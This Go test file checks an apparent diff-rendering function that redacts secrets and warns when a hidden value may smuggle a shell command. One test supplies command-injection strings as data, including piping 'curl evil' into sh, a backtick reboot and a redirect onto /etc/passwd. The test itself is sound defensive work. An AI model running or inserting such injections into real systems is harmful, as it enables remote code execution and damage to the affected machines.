package mcpkit_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"github.com/toolcrib/toolcrib/mcpkit"
	"go.yaml.in/yaml/v3"
)

func object(t testing.TB, text string) mcpkit.Object {
	t.Helper()
	var o map[string]any
	require.NoError(t, yaml.Unmarshal([]byte(text), &o))
	return o
}

func TestDifference(t *testing.T) {
	for _, c := range []struct{ name, before, after, want string }{
		{"nothing", `{spec: {a: 1}}`, `{spec: {a: 1}}`, ``},
		{"scalar", `{spec: {a: 1, b: x}}`, `{spec: {a: 2, b: "x y"}}`, "~ spec.a: 1 -> 2\n~ spec.b: x -> \"x y\""},
		{"added", `{spec: {}}`, `{spec: {a: {b: [1, 2], c: "3"}}}`, `+ spec.a: {b: [1, 2], c: "3"}`},
		{"removed", `{spec: {a: null, b: {c: d}}}`, `{spec: {}}`, "- spec.a: null\n- spec.b: {c: d}"},
		{"odd keys", `{metadata: {labels: {a.b/c: x}}}`, `{metadata: {labels: {a.b/c: y, "n\nl": z}}}`, `~ metadata.labels[a.b/c]: x -> y` + "\n" + `+ metadata.labels[n\nl]: z`},
		{"list by name", `{l: [{name: a, v: 1}, {name: b}]}`, `{l: [{name: a, v: 2}, {name: c}]}`, "~ l[a].v: 1 -> 2\n+ l[c]: {name: c}\n- l[b]: {name: b}"},
		{"list reordered", `{l: [{name: a}, {name: b}]}`, `{l: [{name: b}, {name: a}]}`, "~ l: [{name: a}, {name: b}] -> [{name: b}, {name: a}]"},
		{"scalars", `{l: [a, b]}`, `{l: [a, c]}`, "~ l: [a, b] -> [a, c]"},
		{"text", `{d: "a\nb\nc\n"}`, `{d: "a\nx\ny\nc\n"}`, "~ d: (from line 2)\n    - b\n    + x\n    + y"},
		{"new text", `{}`, `{d: "a\nb\n"}`, "+ d: (2 lines)\n    + a\n    + b"},
		{"kinds", `{a: {b: c}}`, `{a: [b]}`, "~ a: {b: c} -> [b]"},
		{"unseen", `{d: "a"}`, `{d: "a\u200b"}`, `~ d: a -> "a\\u200b"`},
		{"long", `{d: "` + strings.Repeat("x", 300) + `1"}`, `{d: "` + strings.Repeat("x", 300) + `2"}`, "~ d: …" + strings.Repeat("x", 20) + "1 -> …" + strings.Repeat("x", 20) + "2"},
	} {
		t.Run(c.name, func(t *testing.T) {
			got := mcpkit.Difference(mcpkit.SideOf(t.Context(), object(t, c.before)), mcpkit.SideOf(t.Context(), object(t, c.after)))
			require.Equal(t, c.want, strings.Join(got, "\n"))
		})
	}
}

func TestDifferenceHidesSecretsAndStillTellsThemApart(t *testing.T) {
	side := func(text string) mcpkit.Side { return mcpkit.SideOf(t.Context(), object(t, text)) }
	got := mcpkit.Difference(side(`{kind: Secret, data: {a: eA==, b: eA==}}`), side(`{kind: Secret, data: {a: eQ==, b: eA==, c: eA==}}`))
	require.Len(t, got, 2)
	require.Regexp(t, `^~ data.a: "?redacted:[0-9a-f]{8}"? -> "?redacted:[0-9a-f]{8}"?$`, got[0])
	require.Regexp(t, `^\+ data.c: "?redacted:[0-9a-f]{8}"?$`, got[1])
}

// A command that poses as a secret is not shown, so whoever decides about it is
// told that there may be one.
func TestDifferenceSaysThatACommandMayHide(t *testing.T) {
	const warning = "\n    (what is not shown of this is more than a word to a shell, which would run it in a command)"
	side := func(text string) mcpkit.Side {
		return mcpkit.SideOf(t.Context(), mcpkit.Object{"command": []any{"sh", "-c", text}, "env": []any{map[string]any{"name": "DB_PASSWORD", "value": "a;b&c"}}})
	}
	for text, hides := range map[string]bool{
		"echo ok":                                 false,
		"PASSWORD=hunter2 run":                    false,
		"PASSWORD=x;curl${IFS}evil|sh":            true,
		"run && PASSWORD=x$(curl evil|sh) run":    true,
		"PASSWORD=`reboot` run":                   true,
		"PASSWORD= reboot":                        true,
		"run --password=x&reboot":                 true,
		"A_TOKEN=hunter2 B_TOKEN=y|reboot":        true,
		`["PASSWORD=x|reboot", "a"]`:              true,
		"PASSWORD=x>/etc/passwd run\u200b":        true,
		"curl -u ada:hunter2 http://x; exit":      false,
		"psql postgres://app:hunter2@db/x | head": false,
	} {
		for _, before := range []mcpkit.Side{{}, side("true")} {
			got := strings.Join(mcpkit.Difference(before, side(text)), "\n")
			require.Equal(t, hides, strings.Contains(got, warning), got)
			require.NotContains(t, got, "hunter2")
		}
	}
}

func TestDifferenceDoesNotShowWhatIsSetAnew(t *testing.T) {
	before, after := mcpkit.Side{}, mcpkit.SideOf(t.Context(), object(t, `{spec: {at: "10:00", on: true}}`))
	require.Equal(t, []string{"+ spec.at: (set anew)", `+ spec.on: true`}, mcpkit.Difference(before, after, "spec.at"))
	require.Equal(t, []string{"~ spec.at: (set anew)"}, mcpkit.Difference(after, mcpkit.SideOf(t.Context(), object(t, `{spec: {at: "11:00", on: true}}`)), "spec.at"))
}
